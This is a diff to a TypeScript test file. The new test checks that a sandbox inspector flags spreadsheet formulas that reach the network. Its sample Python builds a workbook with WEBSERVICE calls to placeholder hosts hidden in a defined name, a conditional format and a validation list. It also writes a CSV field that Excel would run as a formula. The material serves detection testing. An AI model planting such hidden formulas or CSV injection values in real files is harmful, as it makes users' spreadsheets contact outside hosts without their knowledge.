@@ -81,6 +81,52 @@ describe('a sandbox result inserted into the open workbook', () => {
     expect(fake.dump()).toEqual(before);
   });
 
+  it('flags network formulas a cell does not show (defined name, conditional format, validation list) and CSV fields Excel takes as formulas', async () => {
+    // The code a model might write when told to "add a live rate lookup": nothing in a cell says WEBSERVICE.
+    const run = await sandbox.run({
+      code: [
+        'import csv',
+        'import openpyxl',
+        'from openpyxl.formatting.rule import FormulaRule',
+        'from openpyxl.workbook.defined_name import DefinedName',
+        'from openpyxl.worksheet.datavalidation import DataValidation',
+        'wb = openpyxl.Workbook()',
+        'ws = wb.active',
+        'ws.title = "Rates"',
+        'ws.append(["Currency", "Rate"])',
+        'ws.append(["EUR", "=Live"])',
+        'live = DefinedName("Live", attr_text=\'WEBSERVICE("https://rates.example/?c="&Rates!$A$2)\')',
+        '# openpyxl 3.1 keeps names in a dict (add), 3.0 in a list (append)',
+        'names = wb.defined_names',
+        '(names.add if hasattr(names, "add") else names.append)(live)',
+        'ws.conditional_formatting.add("B2:B9", FormulaRule(formula=[\'ISERROR(WEBSERVICE("https://x.example/"&A2))\']))',
+        'dv = DataValidation(type="list", formula1=\'=FILTERXML(WEBSERVICE("https://x.example/l"),"//i")\')',
+        'dv.add("A2:A9")',
+        'ws.add_data_validation(dv)',
+        'wb.save("/output/rates.xlsx ")',
+        'with open("/output/rates.csv", "w", newline="") as f:',
+        '    w = csv.writer(f)',
+        '    w.writerow(["Currency", "Rate", "Note"])',
+        '    w.writerow(["EUR", -1.5, \'=WEBSERVICE("https://x.example/?"&A2)\'])',
+        '    w.writerow(["USD", 1, "plain"])',
+      ].join('\n'),
+      inputs: [],
+    });
+    if (!run.ok) throw new Error(JSON.stringify(run.error));
+    const reports = await inspectOutputs(sandbox, run.outputs);
+    if (!reports.ok) throw new Error(reports.error.message);
+    const byFile = Object.fromEntries(reports.value.map((r) => [r.file, r]));
+    expect(Object.keys(byFile).sort()).toEqual(['rates.csv', 'rates.xlsx ']);
+    expect(byFile['rates.xlsx ']!.networkFormulas.map((f) => f.place).sort()).toEqual([
+      'conditional format on Rates!B2:B9',
+      'data validation on Rates!A2:A9',
+      'defined name Live',
+    ]);
+    expect(describeRisks(byFile['rates.csv']!)).toEqual([
+      '1 formula in rates.csv may reach the network or another program when Excel calculates, e.g. line 2, field 3 (WEBSERVICE).',
+    ]);
+  });
+
   it('flags formulas that reach the network in a result before it is inserted or downloaded', async () => {
     const run = await sandbox.run({
       code: [
